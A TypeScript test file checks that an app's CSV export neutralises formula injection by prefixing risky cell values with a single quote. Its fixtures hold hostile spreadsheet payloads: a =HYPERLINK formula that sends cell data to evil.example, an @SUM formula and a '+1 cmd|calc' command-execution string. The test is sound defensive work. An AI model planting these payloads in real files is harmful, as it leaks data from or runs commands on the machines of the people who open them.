// A customer controls what their account is called, and an admin opens the export in a
// spreadsheet: a name that starts a formula must arrive as text, not run on the admin's machine.
// Real negative numbers stay numbers.
import { beforeAll, describe, expect, it } from 'vitest';
import { defineCustomField } from '../../src/modules/accounts/index.ts';
import { signedIn, testApp, type ApiClient } from '../support/client.ts';
import { useTestDeps } from '../support/deps.ts';
import { makeUser, makeWorkspace, testPassword } from '../support/factories.ts';

const { deps } = await useTestDeps();
const { db } = deps;
const app = testApp(deps);

const hostile = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
let admin: ApiClient;

beforeAll(async () => {
  const workspaceId = (await makeWorkspace(db)).id;
  const person = await makeUser(db, workspaceId, { role: 'admin' });
  await defineCustomField(
    db,
    { workspaceId, userId: person.id },
    { entity: 'account', key: 'balance', label: 'Balance', type: 'number', required: false },
  );
  await defineCustomField(
    db,
    { workspaceId, userId: person.id },
    { entity: 'account', key: 'motto', label: 'Motto', type: 'text', required: false },
  );
  admin = await signedIn(app, person.email, testPassword);
  const created = await admin.POST('/api/v1/accounts', {
    body: {
      name: hostile,
      domain: 'evil.example',
      customFields: { balance: -1250.5, motto: '@SUM(1+1)' },
    },
  });
  expect(created.response.status).toBe(201);
  const account = created.data?.id ?? '';
  const contact = await admin.POST('/api/v1/accounts/{id}/contacts', {
    params: { path: { id: account } },
    body: { name: '+1 cmd|calc', title: '-Head of IT' },
  });
  expect(contact.response.status).toBe(201);
});

const csv = async (entity: 'accounts' | 'contacts') => {
  const { data, response } = await admin.GET('/api/v1/export/{entity}', {
    params: { path: { entity } },
    parseAs: 'text',
  });
  expect(response.status).toBe(200);
  return typeof data === 'string' ? data : '';
};

describe('an export opened in a spreadsheet', () => {
  it('writes an account named like a formula as text, behind a single quote', async () => {
    const accounts = await csv('accounts');
    expect(accounts).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`);
    expect(accounts).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(accounts).toContain(",'@SUM(1+1)");
  });

  it('keeps a negative number in a number column as a number', async () => {
    const [header = '', row = ''] = (await csv('accounts')).split('\r\n');
    const balance = header.split(',').indexOf('cf.balance');
    expect(balance).toBeGreaterThan(0);
    expect(row.split(',').at(balance - header.split(',').length)).toBe('-1250.5');
  });

  it("neutralizes every CSV it writes, not only the accounts'", async () => {
    const contacts = await csv('contacts');
    expect(contacts).toContain(",'+1 cmd|calc,");
    expect(contacts).toContain(",'-Head of IT,");
  });
});
